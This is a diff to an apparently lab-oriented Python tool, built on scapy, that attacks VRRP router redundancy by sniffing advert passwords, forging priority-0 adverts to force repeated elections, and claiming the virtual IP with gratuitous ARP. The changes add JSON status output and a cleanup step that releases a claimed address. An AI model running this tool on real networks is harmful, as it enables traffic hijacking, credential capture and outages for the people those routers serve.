@@ -12,6 +12,10 @@ Modes:
 - zero-storm: forge priority-0 adverts in the master's name, `--rate` per second,
   forcing the backups into elections over and over.
 - sniff: print the first advert's password (what anyone on the LAN can read).
+
+It reports on stdout as JSON lines (`sniffed` with the password read,
+`forging`, `stopped` with the count sent); on SIGTERM it stops forging and
+gives back a VIP it claimed.
 """
 
 from __future__ import annotations
@@ -85,6 +89,12 @@ def claim_vip(iface: str, vip: str) -> None:
     sendp(garp, iface=iface, count=3, inter=0.05, verbose=False)
 
 
+def release_vip(iface: str, vip: str) -> None:
+    """Give back a VIP we claimed, so the lab is as before once the attack stops."""
+    subprocess.run(["ip", "addr", "del", vip, "dev", iface], check=False, timeout=10,
+                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+
+
 def say(event: str, **fields) -> None:
     print(json.dumps({"t": round(time.time(), 6), "event": event, **fields}), flush=True)
 
@@ -113,7 +123,7 @@ def main(argv: list[str] | None = None) -> int:
     signal.signal(signal.SIGINT, stop)
     template = sniff_advert(args.iface, args.vrid, timeout=10)
     say("sniffed", src=template["IP"].src, password=password_of(template))
-    if args.mode == "sniff":
+    if args.mode == "sniff" or not running:  # stopped while still listening
         return 0
     if args.mode == "rogue":
         from scapy.arch import get_if_addr
@@ -129,6 +139,8 @@ def main(argv: list[str] | None = None) -> int:
         send(packet, iface=args.iface, verbose=False)
         sent += 1
         time.sleep(period)
+    if args.mode == "rogue" and args.claim_vip:
+        release_vip(args.iface, args.claim_vip)
     say("stopped", sent=sent)
     return 0
 
